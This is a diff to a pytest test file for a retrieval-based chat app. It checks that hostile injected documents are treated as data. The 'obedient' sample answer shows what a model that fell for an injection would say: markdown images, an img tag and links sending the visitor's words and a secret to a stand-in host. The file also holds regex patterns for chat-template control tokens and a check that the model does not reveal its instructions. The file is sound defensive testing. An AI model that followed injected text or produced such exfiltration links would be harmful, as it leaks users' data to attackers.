@@ -13,15 +13,21 @@ from typing import Any, cast
 
 import pytest
 
+from adapters.llm.local import LocalModel
 from adapters.llm.openai_compatible import OpenAICompatibleModel
 from adapters.llm.tokens import Utf8Tokenizer
-from domains.conversational_ai.ports.generative_model import TokenPrice
+from domains.conversational_ai.model.chunking import chunks_of_text
+from domains.conversational_ai.model.citation import without_marks
+from domains.conversational_ai.ports.generative_model import ReferencePassage, TokenPrice
 from tests.fixtures.app import Caller, Site, open_site, site_settings
-from tests.injection.corpus import DOCUMENTS, NEIGHBOUR_SECRET, Document
+from tests.injection.corpus import DOCUMENTS, LINK, NEIGHBOUR_SECRET, Document
 from tests.integration.llm.raw_upstream import DONE, END, HEAD, RawUpstream, chunked, event, raw_upstream
 from tests.integration.redis_store.valkey import Valkey
+from tests.port_contracts.generative_model import answer_of, request_for
 
-_OBEDIENT = "It says so [1]."
+# What a model says that fell for it, in two pieces, and what of it may reach the visitor.
+_OBEDIENT = (f"It says so [1]. ![done]({LINK}?q=what-the-visi", f"tor-said) [Confirm]({LINK}) <img src='{LINK}?q=x'> {LINK}?q=secret")
+_HARMLESS = "It says so [1]. done Confirm   collect.evil.example"
 _TAG = re.compile(r"<\s*(/?)\s*(reference[_\s-]?material|passage|question|system|tool_call|start_of_turn|end_of_turn)\b", re.IGNORECASE)
 _MARKS = re.compile(r"<\||<\uff5c|\uff5c<|<</?SYS>>|</?s>|\[/?(?:INST|SYSTEM_PROMPT|TOOL_CALLS)\]", re.IGNORECASE)
 _LOOK_ALIKES = str.maketrans("\u0430\u0435\u043e\u0440\u0441\u0445\u0456\u2039\u276e\u3008", "aeopcxi<<<")
@@ -38,7 +44,7 @@ async def _recorded(
     database_url: str, superuser_url: str, valkey: Valkey, home: Path, monkeypatch: pytest.MonkeyPatch
 ) -> AsyncIterator[tuple[Site, RawUpstream]]:
     """Open the app with a model that is a recording server."""
-    answer = [HEAD, chunked(event(_OBEDIENT, finish="stop", usage=(9, 3)), DONE), END]
+    answer = [HEAD, chunked(event(_OBEDIENT[0])), chunked(event(_OBEDIENT[1], finish="stop", usage=(9, 3)), DONE), END]
     prices = {"recorded": TokenPrice("EUR", 0, 0), "local": TokenPrice("EUR", 0, 0)}
     async with (
         raw_upstream(answer) as upstream,
@@ -93,6 +99,7 @@ def _wrongs(document: Document, body: dict[str, Any], plain: dict[str, Any], ans
         "nothing is hidden in it": not re.search("[\U000e0000-\U000e007f\u202a-\u202e\u2066-\u2069]", sent),
         "the neighbour's secret is not sent": NEIGHBOUR_SECRET not in everything,
         "the neighbour's secret is not told": NEIGHBOUR_SECRET not in told,
+        "links in the answer are citations alone": answer["message"]["content"] == _HARMLESS,
         "only what was retrieved is cited": {c["number"] for c in answer["message"]["citations"]} == {1},
     }
     return [f"{document.title!r} ({document.technique}): not {law!r}" for law, holds in laws.items() if not holds]
@@ -125,6 +132,22 @@ async def test_hostile_documents_are_read_as_data_and_change_nothing(
         assert len(upstream.bodies) == 1 + len(DOCUMENTS)
         assert not wrongs, "\n".join(wrongs)
         assert await _standing(site, owner, agent_id) == before
+
+
+@pytest.mark.parametrize("document", DOCUMENTS, ids=lambda document: f"{document.technique}-{document.canary}")
+async def test_the_local_model_quotes_hostile_documents_without_their_links(document: Document) -> None:
+    chunks = chunks_of_text(document.text)
+    passages = tuple(
+        ReferencePassage(number, without_marks(chunk.text), document.title, 0.9, chunk.locator.heading, None)
+        for number, chunk in enumerate(chunks[-5:], start=1)
+    )
+    question = f"{document.keyword} {document.canary}"
+    request = request_for("local", question=question, passages=passages, language=document.language, instructions="Sesame")
+    pieces, _ = await answer_of(LocalModel(tokenizer=Utf8Tokenizer()), request)
+    said = "".join(pieces)
+    assert "Sesame" not in said
+    assert not re.search(r"\]\(|<(?:img|a|script)\b|<!--|javascript:", said), said
+    assert set(re.findall(r"\[(\d+)\]", said)) <= {str(passage.number) for passage in passages}
 
 
 def test_the_corpus_is_large_and_in_both_languages() -> None:
